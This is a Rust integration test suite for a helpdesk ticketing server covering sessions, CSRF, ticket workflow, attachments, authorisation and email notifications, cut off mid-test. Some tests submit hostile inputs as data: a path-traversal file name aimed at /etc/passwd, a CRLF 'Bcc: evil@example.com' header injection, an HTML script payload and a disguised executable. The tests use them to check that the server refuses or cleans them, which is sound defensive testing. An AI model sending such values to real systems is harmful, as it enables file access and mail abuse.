//! Tickets end to end over real HTTP: accounts and sessions, the widget's
//! identity, opening tickets with files, the status workflow, automatic
//! closing, attachments, notifications and authorisation.

mod common;

use std::time::Duration;

use common::principals::six_digits;
use common::who::{PW, Who, file, invited_user, link_token};
use common::{TestApp, eventually, samples};
use reqwest::multipart::Form;
use serde_json::{Value, json};

#[tokio::test]
async fn invitation_then_first_login_and_sessions() {
    let app = TestApp::spawn_demo("").await;
    let admin = Who::login(&app, "admin@demo.test").await;
    let (status, _) = admin
        .post(
            &app,
            "/api/invitations",
            json!({ "email": "New.Person@Example.com", "role": "operator" }),
        )
        .await;
    assert_eq!(status, 201);
    // Inviting the same address twice is a conflict, not a second account.
    let (status, _) = admin
        .post(
            &app,
            "/api/invitations",
            json!({ "email": "new.person@example.com" }),
        )
        .await;
    assert_eq!(status, 409);

    let mail = app.wait_for_email("new.person@example.com", "token=").await;
    let token = link_token(&mail);
    // No password yet: logging in fails.
    let anon = reqwest::Client::new();
    let r = anon
        .post(app.url("/api/session"))
        .json(&json!({ "email": "new.person@example.com", "password": PW }))
        .send()
        .await
        .expect("login");
    assert_eq!(r.status(), 401);
    let reset = |token: String, password: &'static str| {
        let anon = anon.clone();
        let url = app.url("/api/password/reset");
        async move {
            anon.post(url)
                .json(&json!({ "token": token, "password": password }))
                .send()
                .await
                .expect("reset")
                .status()
                .as_u16()
        }
    };
    assert_eq!(reset(token.clone(), "short").await, 400);
    assert_eq!(reset(token.clone(), PW).await, 204);
    // Single use.
    assert_eq!(reset(token, "another-password-1").await, 400);
    let op = Who::login(&app, "new.person@example.com").await;
    let (_, me) = op.get(&app, "/api/session").await;
    assert_eq!(me["user"]["role"], "operator");
}

#[tokio::test]
async fn session_id_changes_at_login_and_csrf_is_required_with_the_cookie() {
    let app = TestApp::spawn_demo("").await;
    let client = reqwest::Client::new();
    // An anonymous session first (GET /api/session creates its CSRF token).
    let r = client
        .get(app.url("/api/session"))
        .send()
        .await
        .expect("session");
    let before = set_cookie(&r).expect("an anonymous session cookie");
    assert!(
        before.contains("HttpOnly") && before.contains("SameSite=Lax"),
        "{before}"
    );
    let before_id = cookie_value(&before);
    let r = client
        .post(app.url("/api/session"))
        .header("Cookie", &before_id)
        .json(&json!({ "email": "user@demo.test", "password": PW }))
        .send()
        .await
        .expect("login");
    let after = set_cookie(&r).expect("a session cookie at login");
    let after_id = cookie_value(&after);
    assert_ne!(before_id, after_id, "the session id must change at login");
    let body: Value = r.json().await.expect("json");
    let csrf = body["csrf_token"].as_str().expect("csrf").to_string();

    let form = || {
        Form::new()
            .text("type", "settings_help")
            .text("description", "How do I change my invoice address?")
    };
    // Without the token: refused, and nothing is created.
    let r = client
        .post(app.url("/api/tickets"))
        .header("Cookie", &after_id)
        .multipart(form())
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), 403);
    let r = client
        .post(app.url("/api/tickets"))
        .header("Cookie", &after_id)
        .header("X-CSRF-Token", "0".repeat(32))
        .multipart(form())
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), 403);
    let r = client
        .get(app.url("/api/tickets"))
        .header("Cookie", &after_id)
        .send()
        .await
        .expect("list");
    let list: Value = r.json().await.expect("json");
    assert_eq!(list.as_array().map(Vec::len), Some(0));
    // With it: created.
    let r = client
        .post(app.url("/api/tickets"))
        .header("Cookie", &after_id)
        .header("X-CSRF-Token", &csrf)
        .multipart(form())
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), 201);
    // Log-out deletes the server-side session: replaying the cookie fails.
    let r = client
        .delete(app.url("/api/session"))
        .header("Cookie", &after_id)
        .header("X-CSRF-Token", &csrf)
        .send()
        .await
        .expect("logout");
    assert_eq!(r.status(), 204);
    let r = client
        .get(app.url("/api/tickets"))
        .header("Cookie", &after_id)
        .send()
        .await
        .expect("replay");
    assert_eq!(r.status(), 401);
}

fn set_cookie(r: &reqwest::Response) -> Option<String> {
    r.headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("frontdesk_session="))
        .map(str::to_string)
}

fn cookie_value(set_cookie: &str) -> String {
    set_cookie.split(';').next().unwrap_or("").to_string()
}

#[tokio::test]
async fn widget_identity_good_hash_bad_hash_and_email_code() {
    let secret = "a-widget-secret-of-some-length";
    let app = TestApp::spawn_demo(&format!("widget_secret = \"{secret}\"\n")).await;
    let anon = reqwest::Client::new();
    let identify = |secret: &'static str| {
        let anon = anon.clone();
        let url = app.url("/api/widget/identify");
        let token = frontdesk::accounts::identity::sign_token(
            secret,
            &frontdesk::accounts::identity::Claims {
                sub: "host-42".into(),
                exp: frontdesk::store::now() + 600,
                email: Some("host.user@example.com".into()),
                name: Some("Hosty".into()),
                nbf: None,
            },
        );
        async move {
            let r = anon
                .post(url)
                .json(&json!({ "token": token }))
                .send()
                .await
                .expect("identify");
            (
                r.status().as_u16(),
                r.json::<Value>().await.unwrap_or(Value::Null),
            )
        }
    };
    let (status, body) = identify("another-secret-entirely").await;
    assert_eq!(status, 403, "{body}");
    assert!(body.get("visitor_token").is_none());
    let (status, body) = identify(secret).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["user"]["email"], "host.user@example.com");
    let host_user = Who::visitor(body["visitor_token"].as_str().expect("token"));
    let (_, me) = host_user.get(&app, "/api/widget/me").await;
    assert_eq!(me["kind"], "visitor");
    let n = host_user.open_ticket(&app, "From the host product").await;
    let (status, _) = host_user.get(&app, &format!("/api/tickets/{n}")).await;
    assert_eq!(status, 200);
    // A made-up token is refused, not taken as anonymous.
    let (status, _) = Who::visitor(&"f".repeat(32))
        .get(&app, "/api/tickets")
        .await;
    assert_eq!(status, 401);

    // Anonymous visitor: an emailed six-digit code.
    let r = anon
        .post(app.url("/api/widget/email-code"))
        .json(&json!({ "email": "anon@example.org" }))
        .send()
        .await
        .expect("code");
    assert_eq!(r.status(), 202);
    let mail = app.wait_for_email("anon@example.org", "Subject").await;
    let code = six_digits(&mail).expect("a six-digit code in the email");
    let wrong_code = if code == "000000" { "111111" } else { "000000" };
    let r = anon
        .post(app.url("/api/widget/email-code/verify"))
        .json(&json!({ "email": "anon@example.org", "code": wrong_code }))
        .send()
        .await
        .expect("verify");
    assert_eq!(r.status(), 400);
    let r = anon
        .post(app.url("/api/widget/email-code/verify"))
        .json(&json!({ "email": "anon@example.org", "code": code }))
        .send()
        .await
        .expect("verify");
    assert_eq!(r.status(), 200);
    let body: Value = r.json().await.expect("json");
    let visitor = Who::visitor(body["visitor_token"].as_str().expect("token"));
    visitor.open_ticket(&app, "Anonymous but confirmed").await;
    // The code works once.
    let r = anon
        .post(app.url("/api/widget/email-code/verify"))
        .json(&json!({ "email": "anon@example.org", "code": code }))
        .send()
        .await
        .expect("verify");
    assert_eq!(r.status(), 400);
}

#[tokio::test]
async fn ticket_from_the_widget_after_an_escalation_keeps_the_conversation() {
    let app = TestApp::spawn_demo("").await;
    let answer = app
        .ask_question("Can you refund the invoice you charged me twice last month?")
        .await;
    assert_eq!(answer["escalate"], true, "{answer}");
    let suggested = answer["suggested_ticket_type"]
        .as_str()
        .unwrap_or("settings_help");
    let conversation = answer["conversation_id"].as_str().expect("conversation id");
    assert_eq!(conversation.len(), 32, "128-bit conversation ids");
    let key = answer["conversation_key"]
        .as_str()
        .expect("conversation key");

    let user = Who::login(&app, "user@demo.test").await;
    let form = Form::new()
        .text("type", suggested.to_string())
        .text("priority", "high")
        .text("source", "widget")
        .text(
            "description",
            "Can you refund the invoice you charged me twice last month?",
        )
        .text("conversation_id", conversation.to_string())
        .text("conversation_key", key.to_string())
        .text("page_url", "http://localhost/demo/exams")
        .part("files", file("screenshot.png", samples::sample("png")));
    let (status, created) = user.multipart(&app, "/api/tickets", form).await;
    assert_eq!(status, 201, "{created}");
    assert_eq!(created["status"], "new");
    let number = created["number"].as_i64().expect("number");
    assert!(number >= 1001);
    assert!(
        created["url"]
            .as_str()
            .unwrap_or("")
            .ends_with(&format!("/portal/tickets/{number}"))
    );

    let (status, t) = user.get(&app, &format!("/api/tickets/{number}")).await;
    assert_eq!(status, 200);
    assert_eq!(
        t["ticket"]["summary"],
        "Can you refund the invoice you charged me twice last month?"
    );
    assert_eq!(t["ticket"]["priority"], "high");
    assert_eq!(t["ticket"]["source"], "widget");
    assert_eq!(t["status_colour"], "pink");
    assert_eq!(t["response_target"], "4 hours");
    let conv = t["conversation"].as_array().expect("conversation");
    assert_eq!(conv.len(), 2, "question and bot answer: {t}");
    assert_eq!(conv[0]["role"], "user");
    assert_eq!(t["attachments"][0]["file_name"], "screenshot.png");
    assert_eq!(t["attachments"][0]["content_type"], "image/png");
    // The requester and the staff are emailed.
    app.wait_for_email("user@demo.test", &format!("#{number}"))
        .await;
    app.wait_for_email("operator@demo.test", &format!("#{number}"))
        .await;
    // Numbers go up by one.
    let next = user.open_ticket(&app, "Second").await;
    assert_eq!(next, number + 1);

    // Required fields are checked with per-field messages.
    let (status, body) = user
        .multipart(&app, "/api/tickets", Form::new().text("type", "bug_report"))
        .await;
    assert_eq!(status, 400);
    assert_eq!(body["field"], "description");
    let (status, body) = user
        .multipart(
            &app,
            "/api/tickets",
            Form::new()
                .text("type", "complaint")
                .text("description", "x"),
        )
        .await;
    assert_eq!(status, 400);
    assert_eq!(body["field"], "type");
    let (status, body) = user
        .multipart(
            &app,
            "/api/tickets",
            Form::new()
                .text("type", "bug_report")
                .text("source", "portal")
                .text("description", "x"),
        )
        .await;
    assert_eq!((status, body["field"].as_str()), (400, Some("summary")));
    let (status, body) = user
        .multipart(
            &app,
            "/api/tickets",
            Form::new()
                .text("type", "bug_report")
                .text("description", "x")
                .text("conversation_id", "nope"),
        )
        .await;
    assert_eq!(
        (status, body["field"].as_str()),
        (400, Some("conversation_id"))
    );
}

#[tokio::test]
async fn status_workflow_over_http_for_requester_and_operator() {
    let app = TestApp::spawn_demo("").await;
    let user = Who::login(&app, "user@demo.test").await;
    let op = Who::login(&app, "operator@demo.test").await;
    let n = user.open_ticket(&app, "Exports fail").await;

    // The requester cannot do the operators' moves.
    for target in ["in_analysis", "assigned", "feedback", "resolved"] {
        let (status, body) = user.status(&app, n, target).await;
        assert_eq!(status, 403, "requester → {target}: {body}");
    }
    let (status, _) = op.status(&app, n, "feedback").await;
    assert_eq!(status, 409, "feedback needs an assigned operator");
    let (status, body) = op.status(&app, n, "in_analysis").await;
    assert_eq!(
        (status, body["status"].as_str()),
        (200, Some("in_analysis"))
    );
    let (status, body) = op.status(&app, n, "assigned").await;
    assert_eq!((status, body["status"].as_str()), (200, Some("assigned")));
    let (_, t) = user.get(&app, &format!("/api/tickets/{n}")).await;
    assert_eq!(t["assignee"], "Oscar Operator");
    assert_eq!(t["status_colour"], "blue");
    let (status, body) = op.status(&app, n, "feedback").await;
    assert_eq!((status, body["status"].as_str()), (200, Some("feedback")));

    // The requester's reply gives it back to the operator.
    let (status, body) = user
        .multipart(
            &app,
            &format!("/api/tickets/{n}/replies"),
            Form::new().text("body", "Here is the export log."),
        )
        .await;
    assert_eq!(
        (status, body["status"].as_str()),
        (201, Some("assigned")),
        "{body}"
    );
    // An internal note is for operators only.
    let (status, _) = op
        .multipart(
            &app,
            &format!("/api/tickets/{n}/replies"),
            Form::new()
                .text("body", "Looks like the disk is full")
                .text("internal", "true"),
        )
        .await;
    assert_eq!(status, 201);
    let (status, _) = user
        .multipart(
            &app,
            &format!("/api/tickets/{n}/replies"),
            Form::new().text("body", "sneaky").text("internal", "true"),
        )
        .await;
    assert_eq!(status, 403);
    let (_, seen_by_user) = user.get(&app, &format!("/api/tickets/{n}")).await;
    assert!(!seen_by_user.to_string().contains("disk is full"));
    let (_, seen_by_op) = op.get(&app, &format!("/api/tickets/{n}")).await;
    assert!(seen_by_op.to_string().contains("disk is full"));

    let (status, body) = op.status(&app, n, "resolved").await;
    assert_eq!((status, body["status"].as_str()), (200, Some("resolved")));
    // Reopened by the requester: back to the operator.
    let (status, body) = user.status(&app, n, "assigned").await;
    assert_eq!((status, body["status"].as_str()), (200, Some("assigned")));
    let (status, _) = op.status(&app, n, "resolved").await;
    assert_eq!(status, 200);
    // The requester accepts the resolution by closing it.
    let (status, body) = user.status(&app, n, "closed").await;
    assert_eq!((status, body["status"].as_str()), (200, Some("closed")));
    // Closed is read-only for everyone.
    for target in [
        "new",
        "in_analysis",
        "assigned",
        "feedback",
        "resolved",
        "closed",
    ] {
        let (status, _) = op.status(&app, n, target).await;
        assert_eq!(status, 409, "closed → {target}");
    }
    let (status, _) = user
        .multipart(
            &app,
            &format!("/api/tickets/{n}/replies"),
            Form::new().text("body", "hello?"),
        )
        .await;
    assert_eq!(status, 409);
    let (status, _) = op
        .post(
            &app,
            &format!("/api/tickets/{n}/priority"),
            json!({ "priority": "urgent" }),
        )
        .await;
    assert_eq!(status, 409);

    // The history records every change with who made it.
    let (_, t) = op.get(&app, &format!("/api/tickets/{n}")).await;
    let moves: Vec<String> = t["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter(|e| e["kind"] == "status")
        .map(|e| {
            format!(
                "{}>{}",
                e["old_value"].as_str().unwrap_or(""),
                e["new_value"].as_str().unwrap_or("")
            )
        })
        .collect();
    assert_eq!(
        moves,
        [
            "new>in_analysis",
            "in_analysis>assigned",
            "assigned>feedback",
            "feedback>assigned",
            "assigned>resolved",
            "resolved>assigned",
            "assigned>resolved",
            "resolved>closed"
        ]
    );

    // Operators may close an open ticket (spam), requesters may not.
    let m = user.open_ticket(&app, "Spam").await;
    let (status, _) = user.status(&app, m, "closed").await;
    assert_eq!(status, 403);
    let (status, _) = op.status(&app, m, "closed").await;
    assert_eq!(status, 200);
    // Unknown status codes are a 400 naming the field.
    let k = user.open_ticket(&app, "Other").await;
    let (status, body) = op.status(&app, k, "done").await;
    assert_eq!((status, body["field"].as_str()), (400, Some("status")));
    // Priority and time: operators only.
    let (status, _) = user
        .post(
            &app,
            &format!("/api/tickets/{k}/priority"),
            json!({ "priority": "urgent" }),
        )
        .await;
    assert_eq!(status, 403);
    let (status, body) = op
        .post(
            &app,
            &format!("/api/tickets/{k}/priority"),
            json!({ "priority": "urgent" }),
        )
        .await;
    assert_eq!((status, body["priority"].as_str()), (200, Some("urgent")));
    let (status, _) = op
        .post(
            &app,
            &format!("/api/tickets/{k}/time"),
            json!({ "minutes": 30 }),
        )
        .await;
    assert_eq!(status, 204);
    let (status, _) = op
        .post(
            &app,
            &format!("/api/tickets/{k}/time"),
            json!({ "minutes": -5 }),
        )
        .await;
    assert_eq!(status, 400);
}

#[tokio::test]
async fn resolved_tickets_close_automatically_after_the_configured_period() {
    let app = TestApp::spawn_demo("auto_close = \"2s\"\nmaintenance_secs = 1\n").await;
    let user = Who::login(&app, "user@demo.test").await;
    let op = Who::login(&app, "operator@demo.test").await;
    let n = user.open_ticket(&app, "Closes itself").await;
    let open = user.open_ticket(&app, "Stays open").await;
    let (status, _) = op.status(&app, n, "resolved").await;
    assert_eq!(status, 200);
    let (_, t) = user.get(&app, &format!("/api/tickets/{n}")).await;
    assert!(t["ticket"]["closes_at"].as_i64().is_some());
    let closed = eventually(Duration::from_secs(20), || async {
        user.get(&app, &format!("/api/tickets/{n}")).await.1["ticket"]["status"] == "closed"
    })
    .await;
    assert!(closed, "the resolved ticket was not closed automatically");
    let (_, t) = user.get(&app, &format!("/api/tickets/{open}")).await;
    assert_eq!(t["ticket"]["status"], "new");
    app.wait_for_email("user@demo.test", "Closed").await;
}

#[tokio::test]
async fn attachments_are_checked_streamed_and_served_safely() {
    let app = TestApp::spawn_demo("").await;
    let user = Who::login(&app, "user@demo.test").await;
    let accepted = [
        "gif", "jpeg", "jpg", "png", "heic", "dng", "pdf", "txt", "doc", "docx", "xls", "xlsx",
        "mp3", "oga", "ogg", "mp4", "mov",
    ];
    // Every accepted type, ten files per message at most.
    for chunk in accepted.chunks(10) {
        let mut form = Form::new()
            .text("type", "bug_report")
            .text("description", "files");
        for ext in chunk {
            form = form.part(
                "files",
                file(&format!("sample.{ext}"), samples::sample(ext)),
            );
        }
        let (status, body) = user.multipart(&app, "/api/tickets", form).await;
        assert_eq!(status, 201, "{chunk:?}: {body}");
        let n = body["number"].as_i64().expect("number");
        let (_, t) = user.get(&app, &format!("/api/tickets/{n}")).await;
        assert_eq!(t["attachments"].as_array().map(Vec::len), Some(chunk.len()));
    }
    let before = user
        .get(&app, "/api/tickets")
        .await
        .1
        .as_array()
        .map(Vec::len);

    let refused = |name: &str, bytes: Vec<u8>| {
        Form::new()
            .text("type", "bug_report")
            .text("description", "should not be created")
            .part("files", file(name, bytes))
    };
    // A PDF that is really an executable.
    let (status, body) = user
        .multipart(
            &app,
            "/api/tickets",
            refused("invoice.pdf", samples::exe_disguised_as_pdf()),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"], "content_mismatch");
    assert!(
        body["message"]
            .as_str()
            .unwrap_or("")
            .contains("invoice.pdf")
    );
    // SVG and HTML never.
    let (status, body) = user
        .multipart(
            &app,
            "/api/tickets",
            refused(
                "logo.svg",
                b"<svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
            ),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    let (status, _) = user
        .multipart(
            &app,
            "/api/tickets",
            refused("page.html", b"<html><script>alert(1)</script>".to_vec()),
        )
        .await;
    assert_eq!(status, 400);
    let (status, body) = user
        .multipart(
            &app,
            "/api/tickets",
            refused("setup.exe", b"MZ\x90\x00".to_vec()),
        )
        .await;
    assert_eq!(
        (status, body["error"].as_str()),
        (400, Some("type_not_allowed"))
    );
    // 11 files.
    let mut eleven = Form::new()
        .text("type", "bug_report")
        .text("description", "many");
    for i in 0..11 {
        eleven = eleven.part("files", file(&format!("f{i}.txt"), b"hello".to_vec()));
    }
    let (status, body) = user.multipart(&app, "/api/tickets", eleven).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (400, Some("too_many_files")),
        "{body}"
    );
    // 20 MiB + 1 byte.
    let limit = 20 * 1024 * 1024;
    let mut big = samples::sample("txt");
    big.resize(limit + 1, b'a');
    let (status, body) = user
        .multipart(&app, "/api/tickets", refused("big.txt", big))
        .await;
    assert_eq!(status, 413, "{body}");
    assert!(body["message"].as_str().unwrap_or("").contains("big.txt"));
    // Nothing was created by the refused requests, and no temporary file is left.
    let after = user
        .get(&app, "/api/tickets")
        .await
        .1
        .as_array()
        .map(Vec::len);
    assert_eq!(before, after);
    let tmp = app.data.path().join("attachments").join("tmp");
    // The server makes the folder at start-up: a missing one would mean
    // this looks in the wrong place.
    let left = std::fs::read_dir(&tmp).expect("the uploads' temporary folder");
    assert_eq!(left.count(), 0);
    // Exactly 20 MiB is accepted.
    let mut exact = samples::sample("txt");
    exact.resize(limit, b'a');
    let (status, _) = user
        .multipart(&app, "/api/tickets", refused("exact.txt", exact))
        .await;
    assert_eq!(status, 201);

    // A path-traversal name is reduced to its last component.
    let (status, body) = user
        .multipart(
            &app,
            "/api/tickets",
            refused("../../etc/passwd.png", samples::sample("png")),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    let n = body["number"].as_i64().expect("number");
    let (_, t) = user.get(&app, &format!("/api/tickets/{n}")).await;
    assert_eq!(t["attachments"][0]["file_name"], "passwd.png");
    // Downloads: images inline with nosniff; everything else as attachment.
    let url = t["attachments"][0]["url"]
        .as_str()
        .expect("url")
        .to_string();
    let r = user
        .auth(user.client.get(app.url(&url)))
        .send()
        .await
        .expect("download");
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "image/png");
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    assert!(r.bytes().await.expect("bytes").starts_with(b"\x89PNG"));
    let (_, body) = user
        .multipart(
            &app,
            "/api/tickets",
            refused("notes.txt", samples::sample("txt")),
        )
        .await;
    let (_, t) = user
        .get(
            &app,
            &format!("/api/tickets/{}", body["number"].as_i64().expect("number")),
        )
        .await;
    let url = t["attachments"][0]["url"]
        .as_str()
        .expect("url")
        .to_string();
    let r = user
        .auth(user.client.get(app.url(&url)))
        .send()
        .await
        .expect("download");
    let disposition = r.headers()["content-disposition"]
        .to_str()
        .expect("ascii")
        .to_string();
    assert!(disposition.starts_with("attachment;"), "{disposition}");
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
}

#[tokio::test]
async fn users_never_reach_each_others_tickets() {
    let app = TestApp::spawn_demo("").await;
    let admin = Who::login(&app, "admin@demo.test").await;
    let a = Who::login(&app, "user@demo.test").await;
    let b = invited_user(&app, &admin, "b@example.com").await;
    let op = Who::login(&app, "operator@demo.test").await;
    let form = Form::new()
        .text("type", "bug_report")
        .text("description", "A's private problem")
        .part("files", file("a.png", samples::sample("png")));
    let (_, created) = a.multipart(&app, "/api/tickets", form).await;
    let n = created["number"].as_i64().expect("number");
    let (_, t) = a.get(&app, &format!("/api/tickets/{n}")).await;
    let download = t["attachments"][0]["url"]
        .as_str()
        .expect("url")
        .to_string();

    // B: every route says 404, as if the ticket did not exist.
    let (status, _) = b.get(&app, &format!("/api/tickets/{n}")).await;
    assert_eq!(status, 404);
    let (status, _) = b
        .multipart(
            &app,
            &format!("/api/tickets/{n}/replies"),
            Form::new().text("body", "hi"),
        )
        .await;
    assert_eq!(status, 404);
    let (status, _) = b.status(&app, n, "closed").await;
    assert_eq!(status, 404);
    let (status, _) = b
        .post(
            &app,
            &format!("/api/tickets/{n}/priority"),
            json!({ "priority": "low" }),
        )
        .await;
    assert_eq!(status, 404);
    let (status, _) = b
        .post(
            &app,
            &format!("/api/tickets/{n}/time"),
            json!({ "minutes": 5 }),
        )
        .await;
    assert_eq!(status, 404);
    let r = b
        .auth(b.client.get(app.url(&download)))
        .send()
        .await
        .expect("download");
    assert_eq!(r.status(), 404);
    let (_, list) = b.get(&app, "/api/tickets").await;
    assert_eq!(list.as_array().map(Vec::len), Some(0));
    // Anonymous callers: 401 everywhere.
    let anon = Who {
        client: reqwest::Client::new(),
        csrf: None,
        bearer: None,
    };
    assert_eq!(anon.get(&app, &format!("/api/tickets/{n}")).await.0, 401);
    assert_eq!(anon.get(&app, "/api/tickets").await.0, 401);
    let r = anon
        .client
        .get(app.url(&download))
        .send()
        .await
        .expect("download");
    assert_eq!(r.status(), 401);
    // The requester and the operators can.
    assert_eq!(a.get(&app, &format!("/api/tickets/{n}")).await.0, 200);
    assert_eq!(op.get(&app, &format!("/api/tickets/{n}")).await.0, 200);
    let r = op
        .auth(op.client.get(app.url(&download)))
        .send()
        .await
        .expect("download");
    assert_eq!(r.status(), 200);
    // Admin-only: inviting.
    let (status, _) = a
        .post(
            &app,
            "/api/invitations",
            json!({ "email": "x@example.com" }),
        )
        .await;
    assert_eq!(status, 403);
}

#[tokio::test]
async fn notifications_go_through_smtp_and_survive_an_outage() {
    let smtp = common::smtp::SmtpServer::start().await;
    let app = TestApp::spawn_demo(&format!(
        "mail_retry_secs = 1\nmail_from = \"Support <support@example.test>\"\n[smtp]\nhost = \"127.0.0.1\"\nport = {}\ntls = \"none\"\n",
        smtp.port
    ))
    .await;
    let user = Who::login(&app, "user@demo.test").await;
    let op = Who::login(&app, "operator@demo.test").await;
    let n = user
        .open_ticket(&app, "Mail me\r\nBcc: evil@example.com")
        .await;
    let mails = smtp.wait_for(3, Duration::from_secs(20)).await;
    let to_user: Vec<_> = mails
        .iter()
        .filter(|m| m.to.iter().any(|t| t.contains("user@demo.test")))
        .collect();
    assert_eq!(to_user.len(), 1, "one creation email to the requester");
    let data = &to_user[0].data;
    assert!(data.contains(&format!("#{n}")), "{data}");
    assert!(data.contains("text/plain") && data.contains("text/html"));
    assert!(
        !data
            .lines()
            .any(|l| l.to_ascii_lowercase().starts_with("bcc:")),
        "{data}"
    );
    assert!(
        mails
            .iter()
            .any(|m| m.to.iter().any(|t| t.contains("operator@demo.test")))
    );
    assert!(
        mails
            .iter()
            .all(|m| !m.to.iter().any(|t| t.contains("evil")))
    );

    // The server goes down: the status change is kept and sent later, once.
    smtp.set_down(true);
    let (status, _) = op.status(&app, n, "in_analysis").await;
    assert_eq!(status, 200);
    tokio::time::sleep(Duration::from_secs(3)).await;
    let count_before = smtp.received().len();
    smtp.set_down(false);
    let mails = smtp
        .wait_for(count_before + 1, Duration::from_secs(30))
        .await;
    let status_mails: Vec<_> = mails
        .iter()
        .filter(|m| m.data.contains("In analysis"))
        .collect();
    assert_eq!(status_mails.len(), 1, "sent once after the outage");
    // A public reply is emailed too; an internal note is not.
    op.multipart(
        &app,
        &format!("/api/tickets/{n}/replies"),
        Form::new()
            .text("body", "Internal only")
            .text("internal", "true"),
    )
    .await;
    op.multipart(
        &app,
        &format!("/api/tickets/{n}/replies"),
        Form::new().text("body", "We are looking at it"),
    )
    .await;
    let mails = smtp
        .wait_for(count_before + 2, Duration::from_secs(20))
        .await;
    assert!(
        mails
            .iter()
            .any(|m| m.data.contains("We are looking at it"))
    );
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(
        !smtp
            .received()
            .iter()
            .any(|m| m.data.contains("Internal only"))
    );
    let ids: Vec<String> = smtp
        .received()
        .iter()
        .filter_map(|m| {
            m.data
                .lines()
                .find(|l| l.to_ascii_lowercase().starts_with("message-id:"))
                .map(str::to_string)
        })
        .collect();
    let mut unique = ids.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(ids.len(), unique.len(), "no email sent twice");
}

#[tokio::test]
async fn security_headers_rate_limits_and_the_openapi_document() {
    let app = TestApp::spawn_demo("").await;
    for path in [
        "/help",
        "/api/session",
        "/portal/login",
        "/api/openapi.json",
    ] {
        let r = app.get(path).await;
        let h = r.headers();
        assert!(h.contains_key("content-security-policy"), "{path}");
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert!(h.contains_key("referrer-policy"), "{path}");
    }
    let (status, doc) = app.get_text("/api/openapi.json").await;
    assert_eq!(status, 200);
    let doc: Value = serde_json::from_str(&doc).expect("json");
    assert!(doc["openapi"].as_str().unwrap_or("").starts_with("3."));
    for p in [
        "/api/session",
        "/api/tickets",
        "/api/tickets/{number}",
        "/api/tickets/{number}/replies",
        "/api/tickets/{number}/status",
        "/api/attachments/{id}",
    ] {
        assert!(
            doc["paths"].get(p).is_some(),
            "{p} missing from the OpenAPI document"
        );
    }
    // Wrong passwords are slowed: after five, the account waits a little.
    let client = reqwest::Client::new();
    let mut statuses = Vec::new();
    for _ in 0..7 {
        let r = client
            .post(app.url("/api/session"))
            .json(&json!({ "email": "user@demo.test", "password": "wrong-password" }))
            .send()
            .await
            .expect("login");
        statuses.push(r.status().as_u16());
    }
    assert_eq!(&statuses[..5], &[401; 5]);
    assert_eq!(statuses[5], 429);
    // Email codes too.
    let mut last = 0;
    for _ in 0..6 {
        last = client
            .post(app.url("/api/widget/email-code"))
            .json(&json!({ "email": "spam@example.com" }))
            .send()
            .await
            .expect("code")
            .status()
            .as_u16();
    }
    assert_eq!(last, 429);
    // Malformed bodies are 4xx, never 500.
    let r = client
        .post(app.url("/api/session"))
        .header("content-type", "application/json")
        .body("{not json")
        .send()
        .await
        .expect("bad json");
    assert_eq!(r.status(), 400);
}

#[tokio::test]
async fn organisations_share_tickets_and_count_support_hours() {
    let app = TestApp::spawn_demo("").await;
    let admin = Who::login(&app, "admin@demo.test").await;
    let b = invited_user(&app, &admin, "colleague@example.com").await;
    let cli = |args: &[&str]| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_frontdesk"))
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .arg("--data")
            .arg(app.data.path())
            .args(args)
            .output()
            .expect("frontdesk runs");
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    cli(&[
        "org",
        "create",
        "Acme",
        "--monthly-hours",
        "10",
        "--share-tickets",
    ]);
    cli(&["org", "add-member", "Acme", "user@demo.test"]);
    cli(&["org", "add-member", "Acme", "colleague@example.com"]);
    let bad = std::process::Command::new(env!("CARGO_BIN_EXE_frontdesk"))
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .arg("--data")
        .arg(app.data.path())
        .args(["org", "add-member", "Nope", "user@demo.test"])
        .output()
        .expect("frontdesk runs");
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("no organisation named Nope"));

    let a = Who::login(&app, "user@demo.test").await;
    let n = a.open_ticket(&app, "Shared with the team").await;
    // A colleague of the same organisation sees and follows it.
    let (status, _) = b.get(&app, &format!("/api/tickets/{n}")).await;
    assert_eq!(status, 200);
    let (_, list) = b.get(&app, "/api/tickets").await;
    assert_eq!(list.as_array().map(Vec::len), Some(1));
    // Time logged by an operator is charged to the organisation.
    let op = Who::login(&app, "operator@demo.test").await;
    let (status, _) = op
        .post(
            &app,
            &format!("/api/tickets/{n}/time"),
            json!({ "minutes": 90 }),
        )
        .await;
    assert_eq!(status, 204);
    let home = a
        .client
        .get(app.url("/portal"))
        .send()
        .await
        .expect("home")
        .text()
        .await
        .expect("text");
    assert!(home.contains("Support hours: Acme"), "{home}");
    assert!(
        home.contains("Balance this month: <strong>8h30</strong>"),
        "{home}"
    );
    // The same as JSON.
    let (status, hours) = a.get(&app, "/api/account/hours").await;
    assert_eq!(status, 200);
    assert_eq!(hours["organisation"], "Acme");
    let last = hours["months"]
        .as_array()
        .and_then(|m| m.last())
        .cloned()
        .unwrap_or_default();
    assert_eq!(
        (last["used"].as_i64(), last["balance"].as_i64()),
        (Some(90), Some(510))
    );
    assert_eq!(op.get(&app, "/api/account/hours").await.0, 404);
}

#[tokio::test]
async fn my_account_over_the_api() {
    let app = TestApp::spawn_demo("").await;
    let user = Who::login(&app, "user@demo.test").await;
    let (_, me) = user.get(&app, "/api/account").await;
    assert_eq!(
        (me["email"].as_str(), me["locale"].as_str()),
        (Some("user@demo.test"), Some("en"))
